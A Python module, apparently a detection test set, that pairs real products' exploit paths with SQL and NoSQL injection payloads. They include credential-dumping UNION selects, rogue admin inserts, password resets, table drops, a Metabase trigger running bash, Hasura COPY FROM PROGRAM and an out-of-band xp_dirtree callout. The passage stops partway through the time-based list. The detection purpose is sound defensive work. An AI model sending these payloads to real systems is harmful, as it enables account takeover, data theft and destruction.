"""Blind set "hundredtwentyseventh": SQL injection as the published exploits for real products send it
(WordPress plugins, Drupal, Joomla, Magento, vBulletin, phpMyAdmin, ThinkPHP, Laravel-admin, Spring Data, Django,
Rails, Zabbix, Cacti, Nagios XI, Pandora FMS, rConfig, CMS Made Simple, Gogs, PrestaShop, FortiWeb, Ivanti EPM,
Yonyou GRP-U8, Weaver e-cology, Metabase, Hasura, Grafana, OWASP Juice Shop, DVWA, OpenEMR, Rocket.Chat, Strapi,
mongo-express, CouchDB, Parse Server, dotCMS, ZoneMinder), with benign requests that carry the same product
names, keywords and syntax innocently.

The angle: for each detection title, the request a real exploit (CVE advisory, exploit write-up, Metasploit or
nuclei-style template, bug-bounty report) sends to a real product, rewritten from memory: the product's own path
and parameter (question_id, sorting, id[where], current_page_id, list[fullordering], list[select], name[0 ...],
ids[0][product_id][to], nodeId[nodeid], profileIdx2, toggle_ids[], rfilter, session_id, searchColumn, m1_idlist,
the FortiWeb Bearer token, the GRP-U8 R9PACKET, rawSql, run_sql, the Metabase H2 URL, Mongo operators in
Rocket.Chat, Strapi, Parse and Juice Shop), and the SQL dialect of the product's database (MySQL/MariaDB for the PHP
products, PostgreSQL for Grafana, Hasura, Django and Rails, SQL Server for GRP-U8, Ivanti EPM and e-cology, Oracle
for the e-cology Oracle edition and Zabbix on Oracle, SQLite for Juice Shop, H2 for Metabase, MongoDB and CouchDB
for the NoSQL products). The comment above each list names the products and the vulnerability class; a CVE id is
named only where the author is sure of it.

Families and sub-families (one per detection title):
  sqli: libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
    time-based-blind, error-based, out-of-band, information-schema-probing, mysql-comment-obfuscation,
    function-based-probing, sql-authentication-bypass, nosql-injection, hex-char-encoding,
    stored-procedure-xp-cmdshell, having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a
multipart field, the URL path, /api/usage/stats?since=, /admin/users?q=, the admin login form's username and
password, a whole JSON body for NoSQL documents, a raw query or form for Mongo-operator keys), once as the
product's exploit sends it (placements prefixed "rs-", the kind of carrier after the prefix): to the product's
own path with the product's parameter name and fixed parameters, as a query, a double-encoded query, a form, a
form whose SQL is base64-encoded (Magento Shoplift), a form with the WP-Automatic integrity hash, a JSON field, a
JSON document with the payload inside (Metabase, Hasura, Grafana, NotificationX, Juice Shop login), a whole JSON
body (Strapi, CouchDB, Juice Shop reviews), a cookie (WP Fastest Cache), the Authorization header (FortiWeb), a
SOAP body (Ivanti EPM), an XML packet inside a form field (GRP-U8), a raw query or form whose parameter name is
the payload (Drupal 7, ThinkPHP, Django JSONField), or the URL path (Juice Shop order tracking).

Authorship and independence: written for this repository from general knowledge of these products' published
exploits and of each attack family, and from the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator
from typing import Any

from .blind_placements import COOKIE_SAFE, CSRF, FORM, BlindSet, Put, Record, enc, request, xml_escape
from .family_gen import _form, _get, _query
from .records import print_records

NAME = "hundredtwentyseventh"
HOLE = "\u00a7"   # where a product's template takes the payload

# ----------------------------------------------------------------------------------------------------------------
# The products: (method, path with its fixed parameters, parameter, carrier kind, fixed fields, template, headers)
Product = tuple[str, str, str, str, str, str, dict[str, str]]


def _p(method: str, path: str, param: str, kind: str, extra: str = "", wrap: str = HOLE,
       **headers: str) -> Product:
    return (method, path, param, kind, extra, wrap, headers)


MAGENTO_DIRECTIVE = base64.b64encode(b"{{block type=Adminhtml/report_search_grid output=getCsvFile}}").decode()
ZABBIX_JSRPC = ("/zabbix/jsrpc.php?sid=0bcd4ade648214dc&type=9&method=screen.get&timestamp=1471403798083&mode=2"
                "&screenid=&groupid=&hostid=0&pageFile=history.php&profileIdx=web.item.graph&period=3600"
                "&stime=20160817050632&resourcetype=17&itemids%5B23297%5D=23297&action=showlatest&filter="
                "&filter_task=&mark_color=1")
WP_STATISTICS = ("/wp-json/wp-statistics/v2/hit?_=1650000000&_wpnonce=5c9f3d2a1b&wp_statistics_hit_rest=yes"
                 "&browser=Firefox&platform=Linux&version=128.0&ip=203.0.113.5&track_all=1&timestamp=1650000000"
                 "&current_page_type=home&search_query&page_uri=Lw==&user_id=0")
YONYOU_PACKET = ('<?xml version="1.0" encoding="GB2312"?><R9PACKET version="1"><DATAFORMAT>XML</DATAFORMAT>'
                 "<R9FUNCTION><NAME>AS_DataRequest</NAME><PARAMS><PARAM><NAME>ProviderName</NAME>"
                 '<DATA format="text">DataSetProviderData</DATA></PARAM><PARAM><NAME>Data</NAME>'
                 f'<DATA format="text">{HOLE}</DATA></PARAM></PARAMS></R9FUNCTION></R9PACKET>')
IVANTI_SOAP = ('<?xml version="1.0" encoding="utf-8"?><soap12:Envelope xmlns:xsi="http://www.w3.org/2001/'
               'XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:soap12="http://www.w3.org/'
               '2003/05/soap-envelope"><soap12:Body><UpdateStatusEvents xmlns="http://tempuri.org/"><deviceID>'
               "string</deviceID><actionCode>5</actionCode><statusEvents><StatusEvent><Text>x</Text>"
               f"<ID>{HOLE}</ID></StatusEvent></statusEvents></UpdateStatusEvents></soap12:Body></soap12:Envelope>")
METABASE_SETUP = ('{"token":"5b7a3c1e-2f4d-4e8a-9c6b-0d1e2f3a4b5c","details":{"is_on_demand":false,'
                  '"is_full_sync":false,"is_sample":false,"cache_ttl":null,"refingerprint":false,'
                  '"auto_run_queries":true,"schedules":{},"details":{"db":"zip:/app/metabase.jar!/sample-database.db'
                  f';MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\\\;{HOLE}","advanced-options":false,"ssl":true}},'
                  '"name":"an-sec-research-team","engine":"h2"}}')
HASURA_RUN_SQL = '{"type":"run_sql","args":{"source":"default","sql":"' + HOLE + '","cascade":false,"read_only":false}}'
GRAFANA_DS_QUERY = ('{"queries":[{"refId":"A","datasource":{"type":"postgres","uid":"P4169E866C3094E38"},'
                    f'"rawSql":"{HOLE}","format":"table"}}],"from":"now-1h","to":"now"}}')
ROCKET_METHOD = '{"msg":"method","method":"getPasswordPolicy","params":[' + HOLE + '],"id":"1"}'

PRODUCTS: dict[str, Product] = {
    # WordPress plugins (MySQL)
    "wp-perfect-survey": _p("GET", "/wp-admin/admin-ajax.php?action=get_question", "question_id", "query"),
    "wp-ultimate-member": _p("POST", "/wp-admin/admin-ajax.php", "sorting", "form",
                             "action=um_get_members&directory_id=b9238&page=1&nonce=8f2c1d0e7a"),
    "wp-layerslider": _p("GET", "/wp-admin/admin-ajax.php?action=ls_get_popup_markup", "id[where]", "query"),
    "wp-statistics": _p("GET", WP_STATISTICS, "current_page_id", "query"),
    "wp-pmpro": _p("GET", "/?rest_route=/pmpro/v1/order", "code", "query"),
    "wp-ecs-wpquery": _p("POST", "/wp-admin/admin-ajax.php", "query", "form", "action=ecsload",
                         '{"tax_query":{"0":{"field":"term_taxonomy_id","terms":["' + HOLE + '"]}}}'),
    "wp-photo-gallery": _p("GET", "/wp-admin/admin-ajax.php?action=bwg_frontend_data&shortcode_id=1",
                           "bwg_tag_id_bwg_thumbnails_0[]", "query"),
    "wp-fastest-cache": _p("GET", "/", "wordpress_logged_in_1", "cookie"),
    "wp-mec": _p("GET", "/wp-admin/admin-ajax.php?action=mec_load_single_page", "time", "query"),
    "wp-google-maps": _p("GET", "/?rest_route=/wpgmza/v1/markers&filter=%7B%7D", "fields", "query"),
    "wp-notificationx": _p("POST", "/wp-json/notificationx/v1/analytics", "", "json-tpl", "",
                           '{"nx_id":"1","type":"' + HOLE + '"}'),
    "wp-automatic": _p("POST", "/wp-content/plugins/wp-automatic/inc/csv.php", "q", "form-md5", "auth=%00"),
    "wp-loginizer": _p("POST", "/wp-login.php", "log", "form",
                       "pwd=Passw0rd%21&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1"),
    "wp-form-maker": _p("GET", "/wp-admin/admin.php?page=submissions_fm&task=display&current_id=2&order_by=group_id",
                        "asc_or_desc", "query"),
    "wp-symposium": _p("GET", "/wp-content/plugins/wp-symposium/get_album_item.php", "size", "query"),
    "wc-blocks": _p("GET", "/wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][query_type]=or",
                    "calculate_attribute_counts[0][taxonomy]", "query2"),
    "wp-learnpress": _p("GET", "/wp-json/learnpress/v1/courses?paged=1", "order_by", "query"),
    # Drupal 7 (MySQL): the form's array keys reach the query builder
    "drupal7-login": _p("POST", "/?q=node&destination=node", "", "raw-form",
                        "pass=lol&form_build_id=&form_id=user_login_block&op=Log+in"),
    # Joomla (MySQL)
    "joomla-fields": _p("GET", "/index.php?option=com_fields&view=fields&layout=modal", "list[fullordering]", "query"),
    "joomla-contenthistory": _p("GET", "/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1"
                                "&type_id=1", "list[select]", "query"),
    "joomla-component": _p("GET", "/index.php?option=com_content&task=view&Itemid=1", "id", "query"),
    # Magento (MySQL)
    "magento-shoplift": _p("POST", "/index.php/admin/Cms_Wysiwyg/directive/index/", "filter", "b64-form",
                           f"___directive={MAGENTO_DIRECTIVE}&forwarded=1",
                           "popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);" + HOLE),
    "magento2-synchronize": _p("GET", "/catalog/product_frontend_action/synchronize?type_id=recently_products"
                               "&ids[0][added_at]=&ids[0][product_id][from]=?", "ids[0][product_id][to]", "query"),
    # vBulletin (MySQL)
    "vb5-infraction": _p("POST", "/ajax/api/content_infraction/getIndexableContent", "nodeId[nodeid]", "form"),
    "vb-forumrunner": _p("GET", "/forumrunner/request.php?d=1&cmd=get_spam_data", "postids", "query"),
    # phpMyAdmin (post-auth SQL console)
    "phpmyadmin-import": _p("POST", "/phpmyadmin/import.php", "sql_query", "form",
                            "db=mysql&table=user&token=5f3a1c9e0b7d2e46&ajax_request=true&is_js_confirmed=0"),
    # ThinkPHP 3.2 / 5.0 / 5.1 (MySQL)
    "thinkphp5-ids": _p("GET", "/index.php?s=/home/user/index", "", "raw-query"),
    "thinkphp5-insert": _p("GET", "/public/index.php/index/index/index?username[0]=inc&username[2]=1",
                           "username[1]", "query"),
    "thinkphp3-where": _p("GET", "/index.php?m=Home&c=Index&a=index", "id[where]", "query"),
    "thinkphp5-order": _p("GET", "/public/index.php/index/index/index", "", "raw-query"),
    # Laravel-admin (MySQL), Spring Data JPA Sort (PostgreSQL), Django (PostgreSQL), Rails ActiveRecord (PostgreSQL)
    "laravel-admin": _p("GET", "/admin/auth/users?_sort[type]=desc", "_sort[column]", "query"),
    "spring-data-sort": _p("GET", "/api/customers?page=0&size=20", "sort", "query"),
    "django-jsonfield": _p("GET", "/admin/vuln/collection/", "", "param-name"),
    "django-trunc": _p("GET", "/reports/orders/?metric=count", "kind", "query"),
    "django-orderby": _p("GET", "/api/orders/?page=1", "order_by", "query"),
    "rails-order": _p("GET", "/products?page=1&direction=asc", "sort", "query"),
    # monitoring and network tools (MySQL, PostgreSQL or Oracle behind them)
    "zabbix-jsrpc": _p("GET", ZABBIX_JSRPC, "profileIdx2", "query"),
    "zabbix-latest": _p("GET", "/zabbix/latest.php?output=ajax&sid=0bcd4ade648214dc&favobj=toggle"
                        "&toggle_open_state=1", "toggle_ids[]", "query"),
    "cacti-graph-view": _p("GET", "/cacti/graph_view.php?action=tree_content&node=1-1-tree_anchor", "rfilter", "query"),
    "nagiosxi-banner": _p("POST", "/nagiosxi/admin/banner_message-ajaxhelper.php", "id", "form",
                          "action=acknowledge_banner_message"),
    "pandora-chart": _p("GET", "/pandora_console/include/chart_generator.php", "session_id", "query"),
    "rconfig-commands": _p("GET", "/commands.inc.php?searchOption=contains&searchField=vuln&search=search",
                           "searchColumn", "query"),
    "zoneminder-request": _p("GET", "/zm/index.php?view=request&request=event&action=removetag", "tid", "query"),
    # CMS and shops (MySQL), Gogs (MySQL/PostgreSQL/SQLite), dotCMS (PostgreSQL)
    "cmsms-news": _p("GET", "/moduleinterface.php?mact=News,m1_,default,0", "m1_idlist", "query"),
    "gogs-search": _p("GET", "/api/v1/users/search", "q", "query"),
    "gogs-repo-search": _p("GET", "/api/v1/repos/search?limit=10", "q", "query"),
    "ps-blockwishlist": _p("GET", "/module/blockwishlist/view?id_wishlist=1", "order", "query"),
    "dotcms-contenttype": _p("GET", "/api/v1/contenttype?per_page=40&direction=ASC", "orderby", "query"),
    "openemr-validate": _p("GET", "/interface/login/validateUser.php", "u", "query"),
    # appliances and enterprise software
    "fortiweb-fabric": _p("GET", "/api/fabric/device/status", "Authorization", "header", "", "Bearer " + HOLE),
    "ivanti-epm": _p("POST", "/WSStatusEvents/EventHandler.asmx", "", "xml", "application/soap+xml; charset=utf-8",
                     IVANTI_SOAP),
    "yonyou-grp-u8": _p("POST", "/Proxy", "dp", "form-xml", "cVer=9.8.0", YONYOU_PACKET),
    "weaver-getdata": _p("GET", "/js/hrm/getdata.jsp?cmd=getSelectAllId", "sql", "query"),
    "weaver-workflowcenter": _p("POST", "/mobile/browser/WorkflowCenterTreeData.jsp?node=wftype_1&scope=2333",
                                "formids", "form"),
    # data tools with a SQL console or a JDBC URL
    "metabase-validate": _p("POST", "/api/setup/validate", "", "json-tpl", "", METABASE_SETUP),
    "hasura-run-sql": _p("POST", "/v2/query", "", "json-tpl", "", HASURA_RUN_SQL),
    "grafana-ds-query": _p("POST", "/api/ds/query", "", "json-tpl", "", GRAFANA_DS_QUERY),
    # OWASP Juice Shop (SQLite and MongoDB) and DVWA (MySQL)
    "juice-login": _p("POST", "/rest/user/login", "", "json-tpl", "", '{"email":"' + HOLE + '","password":"x"}'),
    "juice-search": _p("GET", "/rest/products/search", "q", "query"),
    "juice-reviews": _p("PATCH", "/rest/products/reviews", "", "json-body"),
    "juice-track": _p("GET", "/rest/track-order/", "", "path"),
    "dvwa-sqli": _p("GET", "/vulnerabilities/sqli/?Submit=Submit", "id", "query", "", HOLE,
                    Cookie="PHPSESSID=3c1f0a9e2b7d4c6a8e5f; security=low"),
    "dvwa-blind": _p("GET", "/vulnerabilities/sqli_blind/?Submit=Submit", "id", "query", "", HOLE,
                     Cookie="PHPSESSID=3c1f0a9e2b7d4c6a8e5f; security=low"),
    # MongoDB and CouchDB products
    "rocketchat-policy": _p("POST", "/api/v1/method.callAnon/getPasswordPolicy", "message", "json", "",
                            ROCKET_METHOD),
    "rocketchat-userslist": _p("GET", "/api/v1/users.list", "query", "query", "", HOLE,
                               **{"X-User-Id": "rbAXPnMktTFbNpwtJ", "X-Auth-Token": "kD3v8gq0YtQfZx2WmL7sN1pR5uE9"}),
    "strapi-reset": _p("POST", "/admin/auth/reset-password", "", "json-body"),
    "mongo-express-checkvalid": _p("POST", "/checkValid", "document", "form", "", HOLE,
                                   Authorization="Basic YWRtaW46cGFzcw=="),
    "couchdb-users": _p("PUT", "/_users/org.couchdb.user:oops", "", "json-body"),
    "parse-classes": _p("GET", "/parse/classes/_User", "where", "query", "", HOLE,
                        **{"X-Parse-Application-Id": "myAppId"}),
}

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is (product, payload) or (product, payload, real placement) when the payload only works in
# one kind of place (a whole JSON document, a Mongo-operator key).
Entry = tuple[str, str] | tuple[str, str, str]

# libinjection-sqli: the classic exploit strings, each on the product it was published for (MySQL unless named)
LIBINJECTION: list[Entry] = [
    # DVWA training app, id (MySQL)
    ("dvwa-sqli", "1' or '1'='1"),
    ("dvwa-sqli", "1' union select user, password from users-- -"),
    ("dvwa-sqli", "-1' union select 1,@@version#"),
    # OWASP Juice Shop product search (SQLite)
    ("juice-search", "qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--"),
    ("juice-search", "banana')) or 1=1--"),
    # Joomla 1.x component, numeric id
    ("joomla-component", "-1 union select 1,concat(username,0x3a,password),3,4,5,6 from jos_users--"),
    ("joomla-component", "999999.9 union all select 1,2,3,4,5,6-- -"),
    # Paid Memberships Pro REST order code (CVE-2023-23488)
    ("wp-pmpro", "a' or 1=1-- -"),
    # Perfect Survey question_id (CVE-2021-24762)
    ("wp-perfect-survey", "1 union select 1,1,char(116,101,120,116),user_login,user_pass,0,0,null,null,null,null,"
                          "null,null,null,null,null,null from wp_users"),
    # vBulletin Forumrunner postids
    ("vb-forumrunner", "-1) union select 1,2,3,concat(username,0x3a,password,0x3a,salt),5,6,7,8,9,10-- -"),
    # OpenEMR validateUser u
    ("openemr-validate", "1' union select 1,username,password,4 from users_secure-- -"),
    # WP Symposium get_album_item size (the column list of a SELECT)
    ("wp-symposium", "user_login,user_pass from wp_users where ID=1;-- "),
    # Gogs repository search q
    ("gogs-repo-search", "') union select 1,2,name,passwd,5,6,7,8 from user--"),
    # Nagios XI banner message id
    ("nagiosxi-banner", "1 or 1=1-- -"),
    # CMS Made Simple News m1_idlist
    ("cmsms-news", "1) union select 1,username,password,4 from cms_users-- -"),
    # Zabbix latest.php toggle_ids
    ("zabbix-latest", "1) or 1=1 union select alias,passwd from users-- -"),
    # rConfig searchColumn
    ("rconfig-commands", "command union all select username,password from users#"),
    # Cacti graph_view rfilter
    ("cacti-graph-view", "') or 1=1 union select 1,username,password from user_auth-- -"),
    # ZoneMinder tid
    ("zoneminder-request", "1 or 1=1"),
    # Weaver e-cology getdata.jsp: the sql parameter is run as is (SQL Server)
    ("weaver-getdata", "select password as id from HrmResourceManager"),
    ("weaver-getdata", "select loginid+'|'+password as id from HrmResource"),
    # Laravel-admin _sort[column]
    ("laravel-admin", "id` desc,(select 1 from admin_users limit 1)-- -"),
    # Ultimate Member sorting
    ("wp-ultimate-member", "user_login,(select 1 from wp_users where 1=1)"),
    # dotCMS orderby (PostgreSQL)
    ("dotcms-contenttype", "mod_date;select 1--"),
    # PrestaShop blockwishlist order
    ("ps-blockwishlist", "p.name,(select 1 from ps_employee where 1=1)"),
    # Google Maps REST fields
    ("wp-google-maps", "user_login,user_pass from wp_users-- -"),
    # Pandora FMS session_id
    ("pandora-chart", "x' or 'x'='x"),
    # Gogs user search
    ("gogs-search", "gogs' or 2>1 or '"),
]

# sql-tautology/boolean: always-true and true/false pairs (the blind boolean oracle)
TAUTOLOGY: list[Entry] = [
    ("dvwa-blind", "1' and 1=1#"),
    ("dvwa-blind", "1' and 1=2#"),
    ("dvwa-blind", "1' AND 4417=4417 AND 'Xrzb'='Xrzb"),
    ("wp-pmpro", "a' OR 'a'='a"),
    ("wp-perfect-survey", "1 and 8124=8124"),
    ("wp-perfect-survey", "1 and 8124=8125"),
    ("wp-layerslider", "1) and (1=1"),
    ("wp-layerslider", "1) and 2>1-- -"),
    ("joomla-component", "1 and true"),
    ("joomla-component", "1 and false"),
    ("nagiosxi-banner", "1 OR 2=2"),
    ("zabbix-latest", "1) or (1)=(1"),
    ("cmsms-news", "a,b,1,5)) or 1=1-- -"),
    ("vb-forumrunner", "1) or 3>2-- -"),
    ("openemr-validate", "admin' or 'b'>'a"),
    ("zoneminder-request", "1 or true"),
    ("gogs-search", "x' OR 1=1 OR 'a'='"),
    ("juice-search", "')) or true--"),
    ("juice-search", "')) and 1=1 and (('a'='a"),
    ("cacti-graph-view", "x' or 1 or '"),
    ("spring-data-sort", "(case when 1=1 then name else email end)"),
    ("django-orderby", "(CASE WHEN (1=1) THEN id ELSE total END)"),
    ("rails-order", "(CASE WHEN 2=2 THEN created_at ELSE id END)"),
    ("weaver-workflowcenter", "1)))or(1=1"),
    ("dotcms-contenttype", "(case when (1=1) then mod_date else name end)"),
    ("pandora-chart", "' or 1=1-- -"),
    ("ps-blockwishlist", "(case when 1=1 then p.name else p.price end)"),
    ("wp-mec", "1 or 1<2"),
]

# sql-comment-sequence: the statement ended or split by a comment (--, #, /*, ;%00 as the exploit sends it)
COMMENT_SEQUENCE: list[Entry] = [
    ("wp-pmpro", "x'-- -"),
    ("wp-pmpro", "x'#"),
    ("dvwa-sqli", "1'/*"),
    ("dvwa-sqli", "1'-- "),
    ("juice-login", "admin@juice-sh.op'--"),
    ("juice-login", "jim@juice-sh.op'--"),
    ("juice-search", "'))--"),
    ("wp-loginizer", "admin'#"),
    ("wp-loginizer", "admin'/*"),
    ("nagiosxi-banner", "1;--"),
    ("zabbix-latest", "1)-- -"),
    ("cmsms-news", "a,b,1,5))-- "),
    ("thinkphp3-where", "1)#"),
    ("openemr-validate", "admin'-- x"),
    ("gogs-search", "')--"),
    ("pandora-chart", "'/*"),
    ("rconfig-commands", "command#"),
    ("cacti-graph-view", "')#"),
    ("laravel-admin", "id`#"),
    ("wp-symposium", "version(); --"),
    ("spring-data-sort", "name--"),
    ("django-orderby", "id;--"),
    ("yonyou-grp-u8", "select 1--"),
    ("weaver-workflowcenter", "1)))--"),
    ("vb-forumrunner", "1)/*"),
    ("dotcms-contenttype", "name;/*"),
    ("zoneminder-request", "1-- -"),
    ("wp-mec", "1))-- -"),
]

# union-select: reading other tables through UNION (column counts as the published exploits use them)
UNION_SELECT: list[Entry] = [
    ("wp-photo-gallery", ')"union select * from (select 1)a join (select 2)b join (select 3)c join (select 4)d '
                         "join (select 5)e join (select user_pass from wp_users limit 1)f#"),
    ("wp-perfect-survey", "-1 union select 1,2,3,user_login,user_pass,6,7,8,9,10,11 from wp_users limit 1"),
    ("wp-layerslider", "1) union select 1,user_login,user_pass,4,5 from wp_users-- -"),
    ("wp-google-maps", "* from wp_users union select 1,2,3,4,5,6,7,8,9,10-- -"),
    ("wc-blocks", '") union all select 1,concat(id,0x3a,user_login,0x3a,user_pass) from wp_users where id=1;'),
    ("wp-ecs-wpquery", "111) union select user_login,user_pass from wp_users#"),
    ("joomla-component", "-9 union select 1,2,concat_ws(0x3a,username,password,email),4 from jos_users limit 0,1--"),
    ("joomla-fields", "(select 1 union select 2)"),
    ("magento2-synchronize", "))) UNION SELECT 1,2 FROM DUAL WHERE 1=1 -- -"),
    ("vb5-infraction", "1 UNION SELECT 26,25,24,23,22,21,20,19,20,17,16,15,14,13,12,11,10,'vbulletin',8,7,6,5,4,3,"
                       "2,1;-- -"),
    ("vb5-infraction", "-1 UNION SELECT 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,concat(username,0x3a,token),"
                       "19,20,21,22,23,24,25,26 FROM user WHERE userid=1-- -"),
    ("vb-forumrunner", "-1) union select 1,2,3,group_concat(username,0x3a,email),5,6,7,8,9,10 from user-- -"),
    ("zabbix-latest", "-1) union select sessionid,userid from sessions where status=0-- -"),
    ("cacti-graph-view", "') union all select 1,2,password from user_auth where username='admin'-- -"),
    ("rconfig-commands", "command UNION ALL SELECT (SELECT CONCAT(0x223E3C42523E5B70726F6D7074235D,username,0x3a,"
                         "password,0x5B70726F6D7074235D3C42523E) FROM users LIMIT 0,1),NULL#"),
    ("cmsms-news", "-1) union select 1,2,3,4,5,6,concat(username,0x3a,password,0x3a,email),8 from cms_users-- -"),
    ("openemr-validate", "x' union select 1,group_concat(username,0x3a,password),3,4 from users_secure-- -"),
    ("gogs-search", "') union select 1,lower_name,name,email,passwd,salt,7,8,9,10 from user--"),
    ("juice-search", "x')) union select email,password,1,2,3,4,5,6,7 from Users where email like '%admin%'--"),
    ("dvwa-sqli", "' union select first_name, password from users where user_id=1#"),
    ("dvwa-sqli", "' UNION ALL SELECT NULL,CONCAT(0x7176627171,user(),0x71707a7871)-- -"),
    ("pandora-chart", "' union select 1,2,3,id_user,password,6 from tusuario-- -"),
    ("nagiosxi-banner", "-1 union select 1,username,api_key,4,5 from xi_users-- -"),
    ("weaver-workflowcenter", "11111111111)))union select NULL,value from v$parameter order by (((1"),
    ("weaver-getdata", "select top 1 loginid as id from HrmResource union select password from HrmResourceManager"),
    ("zoneminder-request", "-1 union select Username,Password from Users-- -"),
    ("dotcms-contenttype", "1 union select 1,userid,password_,4 from user_--"),
    ("wp-symposium", "1 union select user_pass from wp_users where ID=1-- "),
]

# stacked-queries: a second statement after ';' (or the product's own statement channel)
STACKED: list[Entry] = [
    # Drupal 7 (CVE-2014-3704, Drupageddon): the name array keys
    ("drupal7-login", "name[0;insert into users (uid,name,pass,status) values (999,'drupal_ops','$S$DfQbG0IeQMM5"
                      "9PZnOzT3SHCWgnF3VyiUr6M3ZzLZx1pUCe2Fd8Cn',1);insert into users_roles values (999,3);#]=bob"
                      "&name[0]=a", "raw-form"),
    ("drupal7-login", "name[0;update users set name='owned' where uid=1;#]=x&name[0]=y", "raw-form"),
    ("drupal7-login", "name[0;delete from watchdog;#]=a&name[0]=b", "raw-query"),
    # Magento 1 Shoplift (CVE-2015-1397): insert a new admin
    ("magento-shoplift", "SET @SALT = 'rp';SET @PASS = CONCAT(MD5(CONCAT( @SALT , 'forme') ), CONCAT(':', @SALT ));"
                         "SELECT @EXTRA := MAX(extra) FROM admin_user WHERE extra IS NOT NULL;INSERT INTO "
                         "`admin_user` (`firstname`, `lastname`,`email`,`username`,`password`,`created`,`lognum`,"
                         "`reload_acl_flag`,`is_active`,`extra`,`rp_token`,`rp_token_created_at`) VALUES "
                         "('Firstname','Lastname','email@example.com','forme',@PASS,NOW(),0,0,1,@EXTRA,NULL, NOW());"),
    ("magento-shoplift", "INSERT INTO `admin_role` (parent_id,tree_level,sort_order,role_type,user_id,role_name) "
                         "VALUES (1,2,0,'U',(SELECT user_id FROM admin_user WHERE username = 'forme'),'Firstname');"),
    # WP-Automatic csv.php (CVE-2024-27956): the q parameter is run as SQL
    ("wp-automatic", "INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, "
                     "user_status, display_name) VALUES ('eviladmin', '$P$BASbMqW0nlZRux/2IhCw7AdvoNI4VT0', "
                     "'eviladmin', 'eviladmin@example.com', '2024-04-30 16:26:43', 0, 'eviladmin')"),
    ("wp-automatic", "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES ((SELECT ID FROM wp_users "
                     "WHERE user_login='eviladmin'), 'wp_capabilities', 'a:1:{s:13:\"administrator\";s:1:\"1\";}')"),
    ("wp-automatic", "UPDATE wp_options SET option_value='1' WHERE option_name='users_can_register';"),
    # Metabase (CVE-2023-38646): statements appended to the H2 JDBC URL
    ("metabase-validate", "CREATE TRIGGER pwnshell BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\n"
                          "java.lang.Runtime.getRuntime().exec('bash -c {echo,aWQ+L3RtcC9w}|{base64,-d}|{bash,-i}')"
                          "\n$$--=x"),
    ("metabase-validate", "DROP TABLE IF EXISTS PUBLIC.ORDERS\\;--=x"),
    # Hasura run_sql (an unprotected console) and Grafana rawSql (PostgreSQL)
    ("hasura-run-sql", "CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id'; "
                       "SELECT * FROM cmd_exec;"),
    ("hasura-run-sql", "ALTER USER postgres WITH PASSWORD 'pwned'; SELECT 1;"),
    ("grafana-ds-query", "SELECT 1; DROP TABLE IF EXISTS dashboard_acl;"),
    ("grafana-ds-query", "SELECT 1; CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x';"),
    # phpMyAdmin sql_query
    ("phpmyadmin-import", "SELECT 1; UPDATE mysql.user SET authentication_string=PASSWORD('x') WHERE User='root';"
                          " FLUSH PRIVILEGES;"),
    # Yonyou GRP-U8 Proxy and Weaver getdata (SQL Server)
    ("yonyou-grp-u8", "select 1;insert into UA_User(cUser_Id,cUser_Name,cPassword) values('x9','x9','')"),
    ("weaver-getdata", "select 1 as id;update HrmResourceManager set password='c4ca4238a0b923820dcc509a6f75849b' "
                       "where loginid='sysadmin'"),
    # Ivanti EPM status event ID (SQL Server)
    ("ivanti-epm", "1';DECLARE @q VARCHAR(99);SET @q='\\\\x.oast.live\\a';EXEC master..xp_dirtree @q;--"),
    # ThinkPHP id[where], CMSMS, Nagios XI, Zabbix, Pandora (MySQL with multi-statements enabled)
    ("thinkphp3-where", "1;update think_user set password=md5('x') where id=1#"),
    ("cmsms-news", "1);update cms_users set password=md5('x') where user_id=1-- -"),
    ("nagiosxi-banner", "1;INSERT INTO xi_users (username,password,name,email,enabled) VALUES "
                        "('nagiosadm2',md5('x'),'x','x@example.com',1);"),
    ("zabbix-jsrpc", "1;update users set passwd=md5('zabbix') where alias='Admin';-- -"),
    ("pandora-chart", "';insert into tusuario (id_user,password,is_admin) values ('x',md5('x'),1)-- -"),
    # Django and Rails order parameters (PostgreSQL)
    ("django-orderby", "id; DELETE FROM django_session; --"),
    ("rails-order", "id; UPDATE users SET admin=true WHERE id=1; --"),
    ("spring-data-sort", "name; TRUNCATE audit_log; --"),
    # Juice Shop (SQLite)
    ("juice-search", "'));INSERT INTO Users(email,password,role) VALUES('x@x','x','admin');--"),
    ("openemr-validate", "x';update users_secure set password='' where id=1;-- -"),
]

# time-based-blind: SLEEP, BENCHMARK, pg_sleep, WAITFOR, DBMS_PIPE, SQLite randomblob
TIME_BASED: list[Entry] = [
    ("wp-pmpro", "a' OR (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -"),
    ("wp-statistics", "1 AND (SELECT 5671 FROM (SELECT(SLEEP(5)))Xvbq)"),
    ("wp-fastest-cache", "\" AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- "),
    ("wp-mec", "2)) AND (SELECT 3271 FROM (SELECT(SLEEP(5)))Wjxf)-- YTgp"),
    ("wp-notificationx", "clicks`=1 and 1=sleep(5)-- -"),
    ("wp-layerslider", "1)and (SELECT 6416 FROM (SELECT(SLEEP(5)))nEiK)-- vqlq"),
    ("wp-google-maps", "* from wp_users where sleep(5)-- -"),
